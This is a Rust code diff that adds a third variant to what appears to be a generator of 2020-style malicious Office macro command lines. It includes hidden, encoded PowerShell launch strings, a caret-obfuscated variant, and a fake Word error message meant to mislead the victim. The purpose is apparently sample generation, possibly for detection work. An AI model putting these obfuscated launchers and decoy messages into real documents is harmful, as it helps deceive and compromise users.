@@ -6,7 +6,7 @@
 use super::Chance;
 use crate::forge::ovba;
 
-/// The shapes of 2020.
+/// The shapes of 2020 whose carrier is a macro.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
 #[serde(rename_all = "lowercase")]
 pub enum Shape {
@@ -14,6 +14,8 @@ pub enum Shape {
     E1,
     /// December: through `cmd` with carets and a false error, a library by `rundll32`.
     E2,
+    /// July, with the text in the controls of a form.
+    E3,
 }
 
 impl Shape {
@@ -22,6 +24,7 @@ impl Shape {
         match self {
             Self::E1 => "e1",
             Self::E2 => "e2",
+            Self::E3 => "e3",
         }
     }
 }
@@ -78,7 +81,7 @@ pub(super) fn command(shape: Shape, script: &str, chance: &mut Chance) -> String
         "PowerShell -nop -windowstyle hidden -ec ",
     ];
     let head = match shape {
-        Shape::E1 => chance.pick(&HEADS).to_string(),
+        Shape::E1 | Shape::E3 => chance.pick(&HEADS).to_string(),
         Shape::E2 => {
             "cmd cmd cmd cmd /c msg %username% /v Word experienced an error trying to open the file. & \
                       P^Ow^er^she^L^L -w hidden -ENCOD "
